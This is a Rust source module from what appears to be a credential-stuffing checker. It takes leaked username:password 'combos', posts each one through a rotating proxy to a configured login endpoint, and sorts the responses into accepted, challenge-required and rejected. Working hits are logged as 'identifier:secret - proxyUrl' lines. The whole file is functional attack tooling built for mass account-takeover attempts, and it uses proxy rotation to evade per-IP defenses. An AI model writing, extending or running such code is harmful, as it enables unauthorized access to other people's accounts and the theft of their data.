//! Attempt classification
//!
//! One attempt is one POST through one proxy to the configured endpoint. The
//! verdict comes from the response status class alone: success is accepted,
//! redirect means the endpoint wants a secondary verification step, anything
//! else is rejected. A transport failure (unusable proxy, connect error,
//! timeout) also classifies as rejected; the run never stops for one.

use crate::check::feed::{Combo, COMBO_DELIMITER};
use crate::check::proxy::ProxyEndpoint;
use crate::Result;
use anyhow::Context;
use reqwest::redirect::Policy;
use reqwest::{Client, StatusCode, Url};
use std::future::Future;
use std::time::Duration;
use tracing::debug;

/// Form field carrying the identifier
const IDENTIFIER_FIELD: &str = "username";

/// Form field carrying the secret
const SECRET_FIELD: &str = "password";

/// Verdict of one authentication attempt
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    Accepted,
    ChallengeRequired,
    Rejected,
}

impl Outcome {
    /// Map a response status to a verdict
    pub fn from_status(status: StatusCode) -> Self {
        if status.is_success() {
            Outcome::Accepted
        } else if status.is_redirection() {
            Outcome::ChallengeRequired
        } else {
            Outcome::Rejected
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            Outcome::Accepted => "accepted",
            Outcome::ChallengeRequired => "challenge",
            Outcome::Rejected => "rejected",
        }
    }
}

/// A classified attempt, ready to be routed to its sink
#[derive(Debug, Clone)]
pub struct AttemptResult {
    pub combo: Combo,
    pub proxy: ProxyEndpoint,
    pub outcome: Outcome,
}

impl AttemptResult {
    pub fn new(combo: Combo, proxy: ProxyEndpoint, outcome: Outcome) -> Self {
        Self { combo, proxy, outcome }
    }

    /// Output line format: `identifier:secret - proxyUrl`
    pub fn line(&self) -> String {
        format!(
            "{}{}{} - {}",
            self.combo.identifier, COMBO_DELIMITER, self.combo.secret, self.proxy
        )
    }
}

/// Performs one authentication attempt for a (combo, proxy) pair.
///
/// The engine only depends on this trait, so tests can substitute scripted
/// outcomes for the real network boundary. Implementations must classify
/// every failure mode themselves; an attempt never returns an error.
pub trait Authenticator: Send + Sync {
    fn attempt(
        &self,
        combo: &Combo,
        proxy: &ProxyEndpoint,
    ) -> impl Future<Output = Outcome> + Send;
}

/// Authenticator that posts the combo as form fields through the given proxy
#[derive(Debug, Clone)]
pub struct HttpAuthenticator {
    target: Url,
    timeout: Duration,
}

impl HttpAuthenticator {
    pub fn new(target: Url, timeout: Duration) -> Self {
        Self { target, timeout }
    }

    pub fn from_config(config: &crate::RunConfig) -> Result<Self> {
        let target = Url::parse(&config.target_url)
            .with_context(|| format!("invalid target URL {}", config.target_url))?;
        Ok(Self::new(target, config.timeout()))
    }

    /// Issue the request; every per-attempt resource is dropped on return.
    ///
    /// Redirects are not followed: a redirect status is a verdict, not a hop
    /// to chase.
    async fn post(&self, combo: &Combo, proxy: &ProxyEndpoint) -> reqwest::Result<StatusCode> {
        let upstream = reqwest::Proxy::all(proxy.url())?;
        let client = Client::builder()
            .proxy(upstream)
            .timeout(self.timeout)
            .redirect(Policy::none())
            .build()?;

        let response = client
            .post(self.target.clone())
            .form(&[
                (IDENTIFIER_FIELD, combo.identifier.as_str()),
                (SECRET_FIELD, combo.secret.as_str()),
            ])
            .send()
            .await?;

        Ok(response.status())
    }
}

impl Authenticator for HttpAuthenticator {
    async fn attempt(&self, combo: &Combo, proxy: &ProxyEndpoint) -> Outcome {
        match self.post(combo, proxy).await {
            Ok(status) => Outcome::from_status(status),
            Err(err) => {
                // Transport failures fold into the rejected category; the
                // log line still shows what actually went wrong.
                debug!(proxy = %proxy, error = %err, "attempt failed at transport level");
                Outcome::Rejected
            }
        }
    }
}
